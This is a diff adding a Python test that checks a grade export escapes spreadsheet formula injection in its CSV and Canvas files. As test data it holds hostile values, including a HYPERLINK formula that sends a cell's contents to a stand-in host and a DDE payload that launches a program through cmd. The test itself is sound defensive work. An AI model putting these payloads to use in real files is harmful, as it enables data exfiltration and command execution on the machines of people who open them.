@@ -51,3 +51,43 @@ def test_grades_and_canvas_import(tmp_path):
                         ["carol", "", "", "carol", "", ""]]
     nbgrader_rows = list(csv.DictReader((course / "grades.csv").open()))
     assert {(r["student_id"], r["assignment"]) for r in nbgrader_rows} >= {("alice", ASSIGNMENT), ("bob", ASSIGNMENT)}
+
+
+#: Student ids and names as a spreadsheet would run them (a formula, a DDE call) or split them (a comma, a quote).
+HOSTILE_IDS = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tindented", "\rreturn",
+               "doe,jane", 'say "hi"']
+
+
+def test_grades_are_safe_to_open_in_a_spreadsheet(tmp_path):
+    """No text cell begins like a formula; an id with a comma or a quote is one cell; scores stay numbers, negative too."""
+    course = make_course(tmp_path, [ASSIGNMENT])
+    for student in HOSTILE_IDS:
+        score(course, student, 1.0)
+    score(course, "minus", 1.0)
+    with Gradebook(grade.db_url(course)) as gb:
+        gb.update_or_create_student("minus", last_name="=cmd|' /C calc'!A0", first_name="-Ann")
+        for notebook in gb.find_submission(ASSIGNMENT, "minus").notebooks:
+            for g in notebook.grades:
+                g.auto_score = -1.0  # a penalty an instructor entered: a number, never a formula
+        gb.db.commit()
+        maximum = gb.find_assignment(ASSIGNMENT).max_score
+        cells = len(gb.find_assignment(ASSIGNMENT).notebooks[0].grade_cells)
+
+    export.export(root=course)
+
+    grades = list(csv.reader((course / "grades.csv").open(newline="", encoding="utf-8")))
+    canvas = list(csv.reader((course / "grades-canvas.csv").open(newline="", encoding="utf-8")))
+    assert [len(row) for row in grades] == [len(export.GRADES_COLUMNS)] * len(grades)  # no comma shifted a column
+    assert len({len(row) for row in canvas}) == 1
+    for row in grades[1:] + canvas[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
+            assert not cell.startswith("-") or float(cell) < 0, row  # a leading minus only on a number
+    ids = {row[3] for row in grades[1:]}
+    assert ids == {"'" + s if s[0] in "=+-@\t\r" else s for s in HOSTILE_IDS} | {"minus"}, ids
+    minus = next(row for row in grades if row[3] == "minus")
+    assert float(minus[7]) == -cells and minus[4] == "'=cmd|' /C calc'!A0" and minus[5] == "'-Ann", minus
+    by_login = {row[3]: row for row in canvas[2:]}
+    assert by_login["'=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")"][5] == f"{maximum:g}"
+    assert by_login["doe,jane"][5] == f"{maximum:g}" and by_login['say "hi"'][5] == f"{maximum:g}"
+    assert by_login["minus"][0] == "'=cmd|' /C calc'!A0, -Ann" and by_login["minus"][5] == "0"
